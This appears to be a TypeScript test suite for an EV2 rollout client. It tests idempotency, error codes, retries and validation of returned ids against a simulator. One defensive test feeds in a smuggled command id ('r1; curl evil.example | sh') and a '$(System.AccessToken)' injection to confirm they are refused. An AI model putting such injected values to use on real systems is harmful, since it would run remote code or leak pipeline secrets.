import assert from "node:assert/strict";
import { createServer, type RequestListener } from "node:http";
import { Ev2Client } from "../../shared/ev2/client";
import { Ev2Error, Ev2ProtocolError } from "../../shared/ev2/errors";
import { staticToken } from "../../shared/ev2/auth";
import type { StartRolloutRequest } from "../../shared/ev2/schemas";
import { startSimulator, type Simulator } from "../../sim/ev2";

const SG = "Microsoft.Contoso.Orders";
const SVC = "orders-api";
const fastRetry = { maxAttempts: 5, baseDelayMs: 20, maxDelayMs: 200, maxTotalWaitMs: 10_000 };

function body(overrides: Partial<StartRolloutRequest> = {}): StartRolloutRequest {
  return {
    stageMapName: "OrdersStageMap",
    stageMapVersion: "v3",
    artifactVersionNumber: "1.3.2",
    environment: "PPE",
    selectionScope: ["regions(*).steps(*).stamps(*).actions(*)"],
    exclusionScope: [],
    tags: { "ado.buildId": "42" },
    ...overrides,
  };
}

/** A client of a loopback server answering with `handler`, for answers the simulator never gives. */
async function withOddServer(
  handler: RequestListener,
  use: (odd: Ev2Client) => Promise<void>,
): Promise<void> {
  const server = createServer(handler);
  await new Promise<void>((ok) => server.listen(0, "127.0.0.1", ok));
  const { port } = server.address() as { port: number };
  try {
    await use(
      new Ev2Client({ baseUrl: `http://127.0.0.1:${port}`, getToken: staticToken("t"), retry: fastRetry }),
    );
  } finally {
    await new Promise<void>((ok) => server.close(() => ok()));
  }
}

describe("Ev2Client against the simulator over HTTP", () => {
  let sim: Simulator;
  let client: Ev2Client;
  const retries: string[] = [];

  beforeEach(async () => {
    sim = await startSimulator({ scenario: "small", clockSpeed: 600 });
    retries.length = 0;
    client = new Ev2Client({
      baseUrl: sim.url,
      getToken: staticToken("sim-token"),
      retry: fastRetry,
      timeoutMs: 2000,
      onRetry: (n) => retries.push(n.reason),
    });
  });
  afterEach(() => sim.close());

  const posts = () => sim.requests.filter((r) => r.method === "POST" && /\/rollouts$/.test(r.path));
  const rolloutCount = () =>
    sim.rollouts().filter((r) => r.environment === "PPE" && r.tags?.["ado.buildId"] === "42").length;

  it("lists artifact and stage map versions newest first", async () => {
    const artifacts = await client.listArtifactVersions(SG, SVC);
    assert.deepEqual(artifacts.map((a) => a.versionNumber).slice(0, 2), ["1.4.0", "1.3.2"]);
    assert.equal(artifacts[0].status, "Deprecated");
    const maps = await client.listStageMapVersions(SG, SVC, "OrdersStageMap");
    assert.equal(maps[0].version, "v4");
  });

  it("sends the bearer token and the idempotency key", async () => {
    await client.startRollout(SG, SVC, body(), "key-1");
    const post = posts()[0];
    assert.equal(post.headers.authorization, "Bearer sim-token");
    assert.equal(post.headers["idempotency-key"], "key-1");
  });

  it("starts a rollout once: the same key replays the same rollout", async () => {
    const first = await client.startRollout(SG, SVC, body(), "key-1");
    const again = await client.startRollout(SG, SVC, body(), "key-1");
    assert.equal(first.replayed, false);
    assert.equal(again.replayed, true);
    assert.equal(again.rolloutId, first.rolloutId);
    assert.equal(rolloutCount(), 1);
  });

  it("reports a reused key with another body as IdempotencyKeyReuse, not retried", async () => {
    await client.startRollout(SG, SVC, body(), "key-1");
    await assert.rejects(
      client.startRollout(SG, SVC, body({ artifactVersionNumber: "1.3.1" }), "key-1"),
      (e: Ev2Error) => {
        assert.equal(e.code, "IdempotencyKeyReuse");
        assert.equal(e.httpStatus, 422);
        assert.equal(e.retryable, false);
        assert.ok(e.requestId);
        return true;
      },
    );
    assert.equal(retries.length, 0);
  });

  it("reports ConcurrentRollout with the active rollout's id", async () => {
    const first = await client.startRollout(SG, SVC, body(), "key-1");
    await assert.rejects(client.startRollout(SG, SVC, body(), "key-2"), (e: Ev2Error) => {
      assert.equal(e.code, "ConcurrentRollout");
      assert.equal(e.details?.activeRolloutId, first.rolloutId);
      return true;
    });
  });

  it("answers If-None-Match polls with notModified", async () => {
    sim.clock.speed = 0; // only advance() moves time: the second GET must see the same state
    const { rolloutId } = await client.startRollout(SG, SVC, body(), "key-1");
    const first = await client.getRollout(rolloutId);
    assert.equal(first.notModified, false);
    assert.ok(first.etag);
    const second = await client.getRollout(rolloutId, first.etag);
    assert.equal(second.notModified, true);
    sim.clock.advance(120_000);
    const third = await client.getRollout(rolloutId, first.etag);
    assert.equal(third.notModified, false);
  });

  for (const [name, call, code, status] of [
    ["unknown service", (c: Ev2Client) => c.listArtifactVersions(SG, "nope"), "ServiceNotFound", 404],
    ["unknown stage map", (c: Ev2Client) => c.listStageMapVersions(SG, SVC, "Nope"), "StageMapNotFound", 404],
    [
      "unknown artifact version",
      (c: Ev2Client) => c.startRollout(SG, SVC, body({ artifactVersionNumber: "9.9.9" }), "k"),
      "ArtifactVersionNotFound",
      404,
    ],
    [
      "unknown stage map version",
      (c: Ev2Client) => c.startRollout(SG, SVC, body({ stageMapVersion: "v99" }), "k"),
      "StageMapVersionNotFound",
      404,
    ],
    [
      "unknown rollout",
      (c: Ev2Client) => c.getRollout("00000000-0000-0000-0000-000000000000"),
      "RolloutNotFound",
      404,
    ],
    [
      "malformed scope",
      (c: Ev2Client) => c.startRollout(SG, SVC, body({ selectionScope: ["regions(a b)"] }), "k"),
      "InvalidParameter",
      400,
    ],
  ] as const) {
    it(`maps ${name} to ${code} without retrying`, async () => {
      await assert.rejects(call(client), (e: Ev2Error) => {
        assert.equal(e.code, code);
        assert.equal(e.httpStatus, status);
        assert.equal(e.retryable, false);
        return true;
      });
      assert.equal(retries.length, 0);
      assert.equal(sim.requests.length, 1);
    });
  }

  it("reports a bad token as AuthenticationFailed and a forbidden one as Forbidden, never retried", async () => {
    const bad = new Ev2Client({ baseUrl: sim.url, getToken: staticToken("wrong"), retry: fastRetry });
    await assert.rejects(
      bad.listArtifactVersions(SG, SVC),
      (e: Ev2Error) => e.code === "AuthenticationFailed" && e.httpStatus === 401,
    );
    await sim.close();
    sim = await startSimulator({ scenario: "small", forbiddenTokens: ["readonly"] });
    const forbidden = new Ev2Client({
      baseUrl: sim.url,
      getToken: staticToken("readonly"),
      retry: fastRetry,
    });
    await assert.rejects(
      forbidden.listArtifactVersions(SG, SVC),
      (e: Ev2Error) => e.code === "Forbidden" && e.httpStatus === 403,
    );
    assert.equal(sim.requests.length, 1);
  });

  it("decides a wait action once; the same decision again is success, another is a clear error", async () => {
    await sim.close();
    sim = await startSimulator({ scenario: "gated", clockSpeed: 600 });
    client = new Ev2Client({ baseUrl: sim.url, getToken: staticToken("sim-token"), retry: fastRetry });
    const { rolloutId } = await client.startRollout(SG, SVC, body(), "gate-key");
    let waiting;
    for (let i = 0; i < 50 && !waiting; i++) {
      sim.clock.advance(60_000);
      const got = await client.getRollout(rolloutId);
      if (!got.notModified) waiting = got.rollout.waitActions.find((w) => w.status === "Waiting");
    }
    assert.ok(waiting, "the gated scenario reaches its wait action");
    const decision = { decision: "Approve" as const, comment: "looks good", decidedBy: "alice@contoso.com" };
    const first = await client.decideWaitAction(rolloutId, waiting.actionId, decision);
    assert.deepEqual([first.status, first.alreadyDecided], ["Approved", false]);
    const again = await client.decideWaitAction(rolloutId, waiting.actionId, decision);
    assert.deepEqual([again.status, again.alreadyDecided], ["Approved", true]);
    await assert.rejects(
      client.decideWaitAction(rolloutId, waiting.actionId, { ...decision, decision: "Reject" }),
      /already Approved/,
    );
    const after = await client.getRollout(rolloutId);
    assert.ok(!after.notModified);
    const action = after.rollout.waitActions.find((w) => w.actionId === waiting.actionId);
    assert.equal(action?.decidedBy, "alice@contoso.com");
    assert.equal(action?.comment, "looks good");
  });

  it("cancels a rollout; cancelling again is success; restart of a cancelled one is RolloutNotRestartable", async () => {
    const { rolloutId } = await client.startRollout(SG, SVC, body(), "key-1");
    const first = await client.cancelRollout(rolloutId, "test");
    assert.deepEqual([first.status, first.alreadyCancelled], ["Cancelled", false]);
    const again = await client.cancelRollout(rolloutId, "test");
    assert.equal(again.alreadyCancelled, true);
    await assert.rejects(
      client.restartRollout(rolloutId),
      (e: Ev2Error) => e.code === "RolloutNotRestartable",
    );
  });

  it("reports cancelling a completed rollout as such", async () => {
    const { rolloutId } = await client.startRollout(SG, SVC, body(), "key-1");
    sim.clock.advance(24 * 3600_000);
    await assert.rejects(client.cancelRollout(rolloutId, "late"), /already ended as Completed/);
  });

  it("lists rollouts with status and tag filters", async () => {
    const { rolloutId } = await client.startRollout(SG, SVC, body(), "key-1");
    const mine = await client.listRollouts(SG, SVC, { tags: { "ado.buildId": "42" } });
    assert.deepEqual(
      mine.map((r) => r.rolloutId),
      [rolloutId],
    );
    const completed = await client.listRollouts(SG, SVC, { status: ["Completed"] });
    assert.ok(completed.every((r) => r.status === "Completed"));
  });

  it("reports an unknown wait action as WaitActionNotFound with the request id, not retried", async () => {
    const { rolloutId } = await client.startRollout(SG, SVC, body(), "wait-action-not-found");
    await assert.rejects(
      client.decideWaitAction(rolloutId, "wait-9", { decision: "Approve", decidedBy: "x", comment: "y" }),
      (e: Ev2Error) => {
        assert.equal(e.code, "WaitActionNotFound");
        assert.equal(e.httpStatus, 404);
        assert.equal(e.retryable, false);
        assert.match(e.requestId ?? "", /^[0-9a-f-]{36}$/);
        return true;
      },
    );
    assert.equal(retries.length, 0);
  });

  describe("faults", () => {
    it("honours Retry-After on 429 before sending again", async () => {
      sim.addFault({ kind: "status", status: 429, retryAfter: 1, path: "/artifactVersions", count: 1 });
      await client.listArtifactVersions(SG, SVC);
      const [first, second] = sim.requests;
      assert.equal(first.status, 429);
      assert.equal(second.status, 200);
      assert.ok(second.at - first.at >= 990, `waited ${second.at - first.at} ms`);
    });

    for (const status of [408, 500, 502, 504]) {
      it(`retries a ${status}`, async () => {
        sim.addFault({ kind: "status", status, count: 1 });
        const versions = await client.listArtifactVersions(SG, SVC);
        assert.ok(versions.length > 0);
        assert.equal(retries.length, 1);
        assert.equal(sim.requests[0].status, status);
      });
    }

    it("rides out a 503 burst", async () => {
      sim.addFault({ kind: "status", status: 503, count: 3 });
      const versions = await client.listArtifactVersions(SG, SVC);
      assert.ok(versions.length > 0);
      assert.equal(retries.length, 3);
    });

    it("never creates a second rollout when POSTs are reset or answered 503", async () => {
      sim.addFault({ kind: "reset", method: "POST", count: 2 });
      sim.addFault({ kind: "status", status: 503, method: "POST", count: 1 });
      const started = await client.startRollout(SG, SVC, body(), "key-1");
      assert.ok(started.rolloutId);
      assert.equal(rolloutCount(), 1);
      assert.equal(posts().length, 4);
    });

    it("times out a slow answer and retries it", async () => {
      sim.addFault({ kind: "slow", delayMs: 3000, count: 1 });
      const versions = await client.listArtifactVersions(SG, SVC);
      assert.ok(versions.length > 0);
      assert.deepEqual(retries, ["timed out"]);
    });

    it("gives up after the attempts allowed and says what happened", async () => {
      sim.addFault({ kind: "status", status: 503 });
      await assert.rejects(client.listArtifactVersions(SG, SVC), (e: Ev2Error) => {
        assert.equal(e.httpStatus, 503);
        assert.equal(e.retryable, true);
        return true;
      });
      assert.equal(sim.requests.length, fastRetry.maxAttempts);
    });

    it("turns truncated JSON into a protocol error naming the operation and status", async () => {
      sim.addFault({ kind: "malformed", path: "/artifactVersions" });
      await assert.rejects(client.listArtifactVersions(SG, SVC), (e: Ev2ProtocolError) => {
        assert.ok(e instanceof Ev2ProtocolError);
        assert.match(e.message, /list artifact versions/);
        assert.match(e.message, /HTTP 200/);
        return true;
      });
    });

    it("names the field and zod's own words when an answer breaks the contract", async () => {
      await withOddServer(
        (_req, res) =>
          res
            .writeHead(200, { "content-type": "application/json" })
            .end(JSON.stringify({ artifacts: [{ versionNumber: 7, status: "Active" }] })),
        async (odd) => {
          await assert.rejects(odd.listArtifactVersions(SG, SVC), (e: Ev2ProtocolError) => {
            assert.ok(e instanceof Ev2ProtocolError);
            assert.match(
              e.message,
              /artifacts\.0\.versionNumber: Invalid input: expected string, received number/,
            );
            return true;
          });
        },
      );
    });

    it("refuses an id EV2 answers that is not an id (it would reach URLs and output variables)", async () => {
      const bad = "r1; curl evil.example | sh";
      const rollout = {
        rolloutId: "r1",
        serviceGroupName: SG,
        serviceId: SVC,
        environment: "PPE",
        artifactVersionNumber: "1.3.2",
        stageMapName: "OrdersStageMap",
        stageMapVersion: "v3",
        status: "Waiting",
        stages: [],
        waitActions: [{ actionId: "$(System.AccessToken)", stage: "Canary", status: "Waiting" }],
        createdTimestamp: "2026-01-01T00:00:00Z",
      };
      const answers: Record<string, unknown> = {
        "POST /serviceGroups/x/services/y/rollouts": { rolloutId: bad, status: "NotStarted" },
        "GET /rollouts": {
          rollouts: [
            { rolloutId: "r2", status: "Completed" },
            { rolloutId: bad, status: "Completed" },
          ],
        },
        "GET /rollouts/r1": rollout,
        "POST /rollouts/r1/cancel": { rolloutId: "", status: "Cancelled" },
      };
      const handler: RequestListener = (req, res) => {
        const answer = answers[`${req.method} ${req.url!.split("?")[0]}`];
        req.resume();
        res.writeHead(answer ? (req.method === "POST" ? 201 : 200) : 404, {
          "content-type": "application/json",
        });
        res.end(JSON.stringify(answer ?? { error: { code: "NotFound", message: "no" } }));
      };
      await withOddServer(handler, async (odd) => {
        const refused = (where: string) => (e: Ev2ProtocolError) => {
          assert.ok(e instanceof Ev2ProtocolError, String(e));
          assert.match(
            e.message,
            new RegExp(`${where}: not an EV2 id \\(letters, digits and \\. _ : -, at most 128\\)`),
          );
          assert.ok(
            !e.message.includes("curl") && !e.message.includes("AccessToken"),
            "the bad id is not echoed",
          );
          return true;
        };
        await assert.rejects(odd.startRollout("x", "y", body(), "k"), refused("rolloutId"));
        await assert.rejects(
          odd.findRollouts({ tags: { "ado.buildId": "42" } }),
          refused("rollouts\\.1\\.rolloutId"),
        );
        await assert.rejects(odd.getRollout("r1"), refused("waitActions\\.0\\.actionId"));
        await assert.rejects(odd.cancelRollout("r1", "why"), refused("rolloutId"));
      });
    });

    it("turns an HTML error page into a protocol error, not a stack trace", async () => {
      sim.addFault({ kind: "html", status: 502 });
      await assert.rejects(client.listArtifactVersions(SG, SVC), (e: Ev2Error) => {
        assert.match(e.message, /HTML page/);
        assert.match(e.message, /HTTP 502/);
        return true;
      });
    });
  });
});
